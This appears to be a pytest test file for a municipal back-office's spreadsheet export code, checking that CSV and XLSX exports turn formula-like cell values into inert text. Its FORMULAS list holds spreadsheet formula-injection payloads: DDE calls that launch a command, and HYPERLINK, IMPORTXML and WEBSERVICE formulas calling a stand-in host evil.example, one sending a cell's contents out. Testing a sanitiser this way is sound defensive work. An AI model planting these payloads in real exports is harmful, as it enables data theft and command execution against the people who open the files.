"""The formulas of the known lists are text in every file for spreadsheets (R21)."""

import csv
import io
from collections import Counter
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from backoffice.dashboard.residence import residence_file
from citizens.enums import ResidenceKind
from massy_grc.common.spreadsheets import MOST_CHARACTERS, CsvSheet, XlsxSheet, cell

# OWASP and the public lists, by the sign that begins each.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1;"cliquez")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    '=IMPORTXML("http://evil.example";"//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "|calc",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＠SUM(1)",
    "- texte",
)
PLAIN = ("+33 1 60 13 30 00", "-12,5", "(+33)160133000", "Voirie", "a=1", "", "01 60 13 30 00")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_text(text):
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize("text", PLAIN)
def test_numbers_and_words_stay_as_they_are(text):
    assert cell(text) == text


def test_the_table_of_homes_holds_no_formula_and_reads_back_the_same():
    labels = {f"code-{number}": text for number, text in enumerate((*FORMULAS, *PLAIN))}
    counts = {code: Counter({ResidenceKind.EXTERIEUR: 1}) for code in labels}
    rows = list(csv.reader(residence_file(counts, labels).splitlines(keepends=True), delimiter=";"))
    read = {row[0]: row[1] for row in rows[1:]}
    assert set(read) == set(labels)
    for code, text in labels.items():
        assert read[code].removeprefix("'") == text
        assert (read[code][:1] == "'") == (text in FORMULAS)


def test_a_csv_sheet_reads_back_the_same():
    file = io.BytesIO()
    sheet = CsvSheet(file, ["=Tête", "Moment"])
    for text in (*FORMULAS, *PLAIN):
        sheet.append([text, datetime(2026, 7, 1, 22, 30, tzinfo=UTC)])
    sheet.close()
    assert file.getvalue().startswith(b"\xef\xbb\xbf")
    text = file.getvalue().decode("utf-8-sig")
    head, *rows = csv.reader(io.StringIO(text, newline=""), delimiter=";")
    assert head == ["'=Tête", "Moment"]
    assert [row[0] for row in rows] == [*(f"'{text}" for text in FORMULAS), *PLAIN]
    assert {row[1] for row in rows} == {"02/07/2026 00:30"}  # of Paris


def test_a_spreadsheet_holds_strings_and_dates_only():
    file = io.BytesIO()
    texts = (*FORMULAS, *PLAIN, "#N/A", "https://massy.example", "{=1+1}", "page\x0c", "x" * 40_000)
    sheet = XlsxSheet(file, ["=Tête", "Moment"])
    for text in texts:
        sheet.append([text, datetime(2026, 7, 1, 22, 30, tzinfo=UTC)])
    sheet.append([None, "fin"])
    sheet.close()
    head, *rows = load_workbook(file).active.iter_rows()
    assert [one.value for one in head] == ["=Tête", "Moment"]
    assert {one.data_type for one in head} == {"s"}
    for text, (words, moment) in zip(texts, rows, strict=False):
        assert (unescape(words.value or ""), words.hyperlink) == (text[:MOST_CHARACTERS], None)
        assert words.data_type == ("s" if text else "n")  # n: an empty cell
        # who edits the cell does not make a formula of it
        assert words.quotePrefix == (text in FORMULAS)
        assert (f"{moment.value:%d/%m/%Y %H:%M}", moment.is_date) == ("02/07/2026 00:30", True)
    assert [one.value for one in rows[-1]] == [None, "fin"]
